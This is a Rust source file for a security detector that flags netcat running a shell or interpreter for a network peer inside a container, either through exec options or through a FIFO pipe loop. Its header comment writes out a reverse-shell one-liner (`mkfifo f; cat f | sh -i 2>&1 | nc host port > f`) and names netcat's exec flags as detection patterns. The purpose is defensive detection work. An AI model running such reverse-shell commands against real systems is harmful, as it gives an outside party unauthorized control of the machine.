//! `Execution: Netcat Remote Code Execution In Container`: a netcat that runs a program for its
//! peer (`-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`, parsed with each flavor's own option
//! grammar) — a shell, an interpreter or a program it cannot tell, not one that only moves data
//! such as `cat` or `date` — even when that netcat build lacks the option (the intent is in
//! argv), or a netcat whose output feeds a shell through pipes or a FIFO
//! (`mkfifo f; cat f | sh -i 2>&1 | nc host port > f`). The pipe loop is a per-exec fact the
//! engine finds (it is only complete once its last member exec'd, which may be after the shell);
//! the shell's side of it is the Reverse Shell and Remote Command Execution detections' business.

use super::{
    network::RelayKind,
    rules::Severity,
    spec::{no_incident_properties, put, Mitre, Props, Render, Scope, Spec},
    tools::{command_moves_data_only, NetcatFlavor},
    Ctx, Detection, DetectionId, Detector, Evidence, ToolCommand,
};
use crate::event::EventBody;

/// The definition.
pub static SPEC: Spec = Spec {
    category: "Execution: Netcat Remote Code Execution In Container",
    module: "NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER",
    severity: Severity::Low,
    mitre: Mitre {
        tactic: "EXECUTION",
        techniques: &["UNIX_SHELL", "COMMAND_AND_SCRIPTING_INTERPRETER"],
        additional_tactics: &["COMMAND_AND_CONTROL"],
        additional_techniques: &[],
    },
    description: "Netcat was run in a container in a way that gives a network peer a program to drive (an exec option, or pipes into a shell): a reverse or bind shell.",
    next_steps: "Review the pod and its image; find how netcat got there and what the peer did; rotate credentials the container could read.",
    scope: Scope::ContainerOnly,
    detector: Some(|| Box::new(NetcatRce)),
    render_incident: no_incident_properties,
};

/// What netcat did.
#[derive(Clone, Debug, PartialEq)]
pub enum NetcatEvidence {
    /// It runs a program for its peer.
    Exec {
        /// Which netcat.
        flavor: NetcatFlavor,
        /// The option, as written.
        option: String,
        /// The program.
        program: String,
        /// `host:port` as its command line names them.
        peer: Option<String>,
        /// It listens (a bind shell).
        listen: bool,
    },
    /// Its output feeds this shell through pipes.
    WiredShell {
        /// The shell's pid.
        shell_pid: u32,
    },
}

impl Render for NetcatEvidence {
    fn render(&self, props: &mut Props) {
        match self {
            NetcatEvidence::Exec { flavor, option, program, peer, listen } => {
                put(props, "Netcat_Flavor", serde_json::to_value(flavor).unwrap_or_default());
                put(props, "Netcat_Exec_Option", option.as_str());
                put(props, "Netcat_Exec_Program", program.as_str());
                if let Some(p) = peer {
                    put(props, "Netcat_Peer", p.as_str());
                }
                put(props, "Netcat_Listen", *listen);
            }
            NetcatEvidence::WiredShell { shell_pid } => put(props, "Netcat_Wired_Shell_Pid", *shell_pid),
        }
    }
}

/// The detector.
pub struct NetcatRce;

impl Detector for NetcatRce {
    fn on_event(&mut self, ctx: &Ctx<'_>, out: &mut Vec<Detection>) {
        if !matches!(ctx.event.body, EventBody::Exec(_)) || !ctx.in_scope(DetectionId::NetcatRemoteCodeExecution) {
            return;
        }
        let p = ctx.process;
        if let Some(ToolCommand::Netcat(flavor, cmd)) = ctx.command {
            // A program that only reads and writes data (an echo or time service: `-e /bin/cat`,
            // `--sh-exec date`) gives the peer nothing to run.
            if let Some(x) = cmd.exec.as_ref().filter(|x| !command_moves_data_only(&x.program)) {
                let mut d = ctx.detection(
                    DetectionId::NetcatRemoteCodeExecution,
                    p.key,
                    format!("netcat runs {:?} for its peer ({} {})", x.program, x.option, x.program),
                );
                d.evidence = Evidence::Netcat(NetcatEvidence::Exec {
                    flavor: *flavor,
                    option: x.option.clone(),
                    program: x.program.clone(),
                    peer: cmd.host.as_ref().map(|h| format!("{h}:{}", cmd.port.clone().unwrap_or_default())),
                    listen: cmd.listen,
                });
                d.peer = cmd.peer();
                out.push(d);
                return;
            }
        }
        for w in ctx.wired.iter().filter(|w| w.kind == RelayKind::Netcat) {
            let mut d = ctx.wired_relay_detection(DetectionId::NetcatRemoteCodeExecution, w, "netcat");
            d.peer = ctx.table.get(w.relay).and_then(|nc| ctx.command_line_peer(nc));
            d.evidence = Evidence::Netcat(NetcatEvidence::WiredShell { shell_pid: w.shell.pid });
            out.push(d);
        }
    }
}
